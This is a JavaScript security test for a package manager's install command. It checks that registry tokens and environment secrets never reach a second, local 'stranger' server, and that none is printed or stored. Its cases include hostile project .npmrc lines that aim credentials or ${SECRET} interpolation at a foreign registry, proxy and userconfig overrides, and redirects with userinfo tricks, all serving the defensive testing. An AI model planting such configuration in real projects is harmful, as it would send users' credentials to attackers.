// Secrets and redirects. The user has a token for the registry; packages, redirects and a hostile project try to get it,
// or something of the environment, to another host. Required: no secret leaves for anywhere but the address it was given
// for, and none is printed or stored. T-NET-01 … T-NET-07
import fs from 'node:fs';
import http from 'node:http';
import path from 'node:path';
import { walk } from '../lib/check_tree.mjs';
import { remove } from '../lib/scene.mjs';

export const packages = { count: 12 };

const TOKEN = 'tok-5f0c1e8a2b';
const SECRET = 'env-9d41c7e6aa';

export default async function (scene, row) {
  const { synth, registry } = scene;
  const name = synth.addSmall({ name: 'plain', version: '1.0.0' }, { 'index.js': '' });
  let heard = [];
  const stranger = http.createServer((request, response) => {
    const base = `http://127.0.0.1:${stranger.address().port}`;
    heard.push(`${request.method} ${request.url} ${JSON.stringify(request.headers)}`);
    const tarball = synth.tarball(name, '1.0.0').body;
    const body = request.url.endsWith('.tgz') ? tarball : Buffer.from(JSON.stringify(synth.packument(name, base)));
    response.writeHead(200, { 'content-type': 'application/json', 'content-length': body.length });
    response.end(body);
  });
  await new Promise((done) => stranger.listen(0, '127.0.0.1', done));
  const there = `127.0.0.1:${stranger.address().port}`;
  const here = `127.0.0.1:${registry.port}`;
  synth.addSmall({ name: 'elsewhere', version: '1.0.0' }, {}, { tarballUrl: `http://${there}/elsewhere/-/elsewhere-1.0.0.tgz` });
  synth.addSmall({ name: '@scope/inside', version: '1.0.0' });

  const user = `//${here}/:_authToken=${TOKEN}\n`;
  const toStranger = (kind) => (request) => (request.kind === kind ? { type: 'redirect', to: `http://${there}${request.url}` } : null);
  // Each: files, what the registry does, dependencies. `own`: the token must have reached the registry.
  const cases = {
    'a token for the registry': { user, own: true },
    'redirect of the packument': { user, fault: toStranger('packument'), own: true },
    'redirect of the archive': { user, fault: toStranger('tarball'), own: true },
    'redirect to another port by name': {
      user,
      fault: (request) => (request.kind === 'tarball' ? { type: 'redirect', to: `http://localhost:${stranger.address().port}/x.tgz` } : null),
      own: true,
    },
    'redirect with userinfo': {
      user,
      fault: (request) => (request.kind === 'tarball' ? { type: 'redirect', to: `http://${here}@${there}/x.tgz` } : null),
      own: true,
    },
    'archive on another host': { user, dependencies: { elsewhere: '1.0.0' }, own: true },
    'archive on another host, a token for it': {
      user: user + `//${there}/:_authToken=other-token\n`,
      dependencies: { elsewhere: '1.0.0' },
      own: true,
      expect: () => heard.some((line) => line.includes('other-token')),
    },
    "user's unscoped token, project's registry": { user: `_authToken=${TOKEN}\n`, project: `registry=http://${there}/\n` },
    "user's unscoped token and registry, project's registry": {
      user: `registry=http://${here}/\n_authToken=${TOKEN}\n`,
      project: `registry=http://${there}/\n`,
    },
    "user's _auth, project's registry": { user: `_auth=${Buffer.from('u:' + TOKEN).toString('base64')}\n`, project: `registry=http://${there}/\n` },
    "user's token, project's registry": { user, project: `registry=http://${there}/\n` },
    "user's token by prefix, project's registry below": { user, project: `registry=http://${there}/${here}/\n` },
    "user's token, project's scope": {
      user: `registry=http://${here}/\n${user}`,
      project: `@scope:registry=http://${there}/\n`,
      dependencies: { '@scope/inside': '1.0.0' },
    },
    'project: ${ENV} in the registry': { user, project: `registry=http://${there}/\${SECRET}/\n` },
    'project: ${ENV} in the registry, percent-encoded': { user, project: `registry=http://${there}/%24%7BSECRET%7D/\n` },
    'project: ${ENV} in a scope registry': { project: `registry=http://${here}/\n@scope:registry=http://${there}/\${SECRET}/\n`, dependencies: { '@scope/inside': '1.0.0' } },
    'project: ${ENV} as a token': { project: `registry=http://${there}/\n//${there}/:_authToken=\${SECRET}\n` },
    'project: ${ENV} as an unscoped token': { project: `registry=http://${there}/\n_authToken=\${SECRET}\n` },
    'project: ${ENV} as username and password': {
      project: `registry=http://${there}/\n//${there}/:username=\${SECRET}\n//${there}/:_password=\${SECRET}\n`,
    },
    'project: ${ENV-default}': { project: `registry=http://${there}/\n//${there}/:_authToken=\${SECRET:-x}\${SECRET?}\n` },
    'project: ${ENV} in a key': { project: `registry=http://${there}/\n//${there}/\${SECRET}:_authToken=x\n` },
    'project: ${ENV} in user-agent': { project: `registry=http://${there}/\nuser-agent=\${SECRET}\n` },
    'project: ${ENV} in scope': { project: `registry=http://${there}/\nscope=@\${SECRET}\n` },
    'project: ${ENV} in tag and otp': { project: `registry=http://${there}/\ntag=\${SECRET}\notp=\${SECRET}\n`, dependencies: { plain: '' } },
    'project: proxy': { user, project: `registry=http://${here}/\nproxy=http://${there}/\nhttps-proxy=http://${there}/\n`, own: true, silent: true },
    'project: proxy with ${ENV}': { user, project: `registry=http://${here}/\nproxy=http://\${SECRET}@${there}/\n`, own: true, silent: true },
    'project: userconfig': { user, project: `registry=http://${there}/\nuserconfig=./evil.npmrc\nglobalconfig=./evil.npmrc\n` },
    'project: hod settings in package.json': { user, project: `registry=http://${there}/\n`, manifest: { hod: { registry: `http://${there}/\${SECRET}/` } } },
    'manifest: publishConfig': { user, manifest: { publishConfig: { registry: `http://${there}/` } }, own: true, silent: true },
    'dependency: address with ${ENV}': { user, dependencies: { x: `http://${there}/\${SECRET}.tgz` } },
    'user: ${ENV} in the token is fine': { user: `//${here}/:_authToken=\${SECRET}\n`, expect: () => registry.log.some((r) => r.auth === `Bearer ${SECRET}`) },
  };
  for (const [title, given] of Object.entries(cases)) {
    heard = [];
    const home = scene.folder('home');
    const cache = scene.folder('cache');
    const project = scene.project('project', given.dependencies ?? { [name]: '1.0.0' }, { manifest: given.manifest });
    fs.writeFileSync(path.join(home, '.npmrc'), given.user ?? '', { mode: 0o600 });
    fs.writeFileSync(path.join(project, '.npmrc'), given.project ?? `registry=http://${here}/\n`);
    fs.writeFileSync(path.join(project, 'evil.npmrc'), `//${there}/:_authToken=\${SECRET}\n`);
    registry.reset(given.fault ?? null);
    const run = await scene.run(['install', '--loglevel=debug'], { cwd: project, cache, timeout: 60_000, env: { HOME: home, SECRET } });
    const bad = [];
    const told = heard.join('\n');
    for (const secret of [TOKEN, SECRET, Buffer.from('u:' + TOKEN).toString('base64'), Buffer.from(SECRET).toString('base64')]) {
      if (told.includes(secret)) bad.push('a secret reached the stranger');
    }
    if (given.silent && heard.length > 0) bad.push('the stranger was asked');
    if (given.own && !registry.log.some((request) => request.auth?.includes(TOKEN))) bad.push('the token did not reach its own registry');
    if (given.expect && !given.expect()) bad.push('what is allowed did not work');
    const kept = [...walk(project), ...walk(cache)].filter((file) => !file.startsWith(home));
    const stores = kept.filter((file) => {
      const bytes = fs.readFileSync(file, 'latin1');
      return bytes.includes(TOKEN) || bytes.includes(SECRET);
    });
    if (stores.length > 0) bad.push('a secret was stored in ' + stores[0]);
    if (run.out.includes(TOKEN) || run.out.includes(SECRET)) bad.push('a secret was printed');
    row({ case: title, code: run.code, heard: heard.length, pass: bad.length === 0 && !run.timedOut, bad, tail: run.out.slice(0, 300) });
    for (const at of [home, cache, project]) remove(at);
  }
  stranger.close();
}
